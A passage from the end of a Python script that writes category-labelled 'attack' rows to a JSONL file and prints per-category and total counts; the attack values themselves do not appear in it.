    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha28-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    lits = sum(LITERAL_COUNTS.values())
    for cat, _ in CATEGORIES:
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d  (literals %d)" % ("total", len(rows), lits))


if __name__ == "__main__":
    main()
